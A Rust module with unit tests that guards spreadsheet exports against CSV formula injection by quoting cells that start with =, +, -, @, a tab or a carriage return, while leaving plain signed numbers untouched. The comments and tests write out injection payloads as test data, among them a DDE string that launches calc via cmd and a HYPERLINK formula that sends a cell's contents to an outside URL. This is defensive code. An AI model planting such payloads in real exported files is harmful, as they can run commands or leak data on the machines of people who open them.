//! CSV (formula) injection: a cell whose text starts with `=`, `+`, `-` or `@` is taken
//! for a formula by Excel, LibreOffice and Google Sheets when they open a CSV, and a
//! contact named `=HYPERLINK("http://…?"&A2,"Clique")` or `@SUM(1+1)*cmd|' /C calc'!A0`
//! would run on the machine of whoever opens the report. A leading tab or carriage return
//! counts too: some programs strip it and then see the formula.
//!
//! The fix is OWASP's: put a single quote in front of such a cell. Spreadsheets show the
//! text as it was, with the quote, and never evaluate it. XLSX cells get the quote as well
//! (they are written as strings, which Excel never evaluates, but users re-save an xlsx
//! as CSV, and the quote travels with the text into that file).
//!
//! One exception, on purpose: a cell that is nothing but a sign and a number (`-12`,
//! `-1.234,56`, `+5511987654321`). Every spreadsheet reads that as the very number it
//! shows: it cannot call a function, refer to another cell or reach another program, so it
//! carries no injection. Quoting it would only break real data: negative amounts would
//! stop being numbers, and every phone number in international format (what the import
//! writes, `+55 11 9…` without spaces) would show a stray `'` to the person reading it
//! and come back with that quote when the sheet is imported again.

use std::borrow::Cow;

/// What a spreadsheet may take as the start of a formula.
const FORMULA_LEADS: [char; 4] = ['=', '+', '-', '@'];

/// True when `text` would be read as a formula and must be quoted: it starts with a tab
/// or a carriage return, or its first character after any leading whitespace is `=`,
/// `+`, `-` or `@` (LibreOffice can be told to trim spaces before it evaluates) — unless
/// the whole cell is a plain signed number.
pub fn needs_neutralising(text: &str) -> bool {
    if text.starts_with(['\t', '\r']) {
        return true;
    }
    let trimmed = text.trim_start_matches([' ', '\t', '\r', '\n']);
    trimmed.starts_with(FORMULA_LEADS) && !is_signed_number(text)
}

/// The cell as it must be written: quoted with a leading `'` when it could run as a
/// formula, untouched otherwise (borrowed, so the common case costs nothing).
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if needs_neutralising(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `+` or `-`, then digits with `.` or `,` only between them: a number in any locale's
/// notation, and nothing a spreadsheet could evaluate to anything else.
fn is_signed_number(text: &str) -> bool {
    let Some(digits) = text.strip_prefix(['+', '-']) else {
        return false;
    };
    let bytes = digits.as_bytes();
    matches!((bytes.first(), bytes.last()), (Some(first), Some(last)) if first.is_ascii_digit() && last.is_ascii_digit())
        && bytes
            .iter()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b','))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_lead_is_quoted() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://example.test/?\"&A2,\"Clique\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\tplain text after a tab",
            "\rplain text after a carriage return",
            "=",
            "+",
            "-",
            "@",
            "-5 reais",
            "+55 11 98765-4321",
        ] {
            assert!(needs_neutralising(text), "{text:?}");
            assert_eq!(neutralise(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn a_formula_behind_leading_spaces_is_quoted_too() {
        assert_eq!(neutralise("  =1+1"), "'  =1+1");
        assert_eq!(neutralise(" \n@SUM(A1)"), "' \n@SUM(A1)");
    }

    #[test]
    fn safe_text_is_untouched_and_borrowed() {
        for text in [
            "",
            "João da Silva",
            "(11) 98765-4321",
            "11987654321",
            "5511987654321",
            "Ana = Maria",
            "a-b",
            "'=already quoted",
            " plain text after a space",
            "e-mail: ana@example.com",
        ] {
            assert!(!needs_neutralising(text), "{text:?}");
            assert!(matches!(neutralise(text), Cow::Borrowed(t) if t == text));
        }
    }

    #[test]
    fn signed_numbers_stay_numbers() {
        for text in ["-5", "-12.5", "-1.234,56", "+5511987654321", "+1", "-0,5"] {
            assert!(!needs_neutralising(text), "{text:?}");
            assert_eq!(neutralise(text), text);
        }
        // Not numbers: a formula can hide behind a sign that is not followed by digits only.
        for text in ["-1+1", "+1e3", "-.5", "-5.", "+55 11 9", "-1,2,A1", "+ 5"] {
            assert!(needs_neutralising(text), "{text:?}");
        }
    }
}
